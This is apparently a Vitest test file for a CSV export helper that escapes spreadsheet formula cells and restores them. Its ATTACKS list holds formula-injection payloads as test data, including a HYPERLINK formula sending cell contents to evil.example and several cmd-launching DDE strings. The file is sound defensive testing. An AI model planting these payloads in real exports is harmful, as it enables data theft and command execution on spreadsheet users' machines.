import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, restoreCsvCell } from './csv-cells';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
];

describe('neutraliseCsvCell', () => {
  it('puts a quote before every cell a spreadsheet would run as a formula', () => {
    for (const text of ATTACKS) expect(neutraliseCsvCell(text), JSON.stringify(text)).toBe(`'${text}`);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const text of [
      '-5',
      '+3.25',
      '-0.5e3',
      '.5',
      '21.5',
      'a=b',
      'note - dash',
      "it's",
      '',
      '2026-03-01',
    ]) {
      expect(neutraliseCsvCell(text)).toBe(text);
    }
  });

  it('adds one more quote to text that already starts with quotes before a formula sign', () => {
    expect(neutraliseCsvCell("'=x")).toBe("''=x");
    expect(neutraliseCsvCell("''-1")).toBe("'''-1");
    expect(neutraliseCsvCell("'abc")).toBe("'abc");
  });
});

describe('restoreCsvCell', () => {
  it('gives back every exported value exactly', () => {
    const values = [...ATTACKS, '-5', "'=x", "''@y", "'abc", "'", 'plain', "'-5"];
    for (const text of values)
      expect(restoreCsvCell(neutraliseCsvCell(text)), JSON.stringify(text)).toBe(text);
  });

  it('keeps a leading quote that was not added for a formula sign', () => {
    expect(restoreCsvCell("'abc")).toBe("'abc");
    expect(restoreCsvCell("'5")).toBe("'5");
  });
});
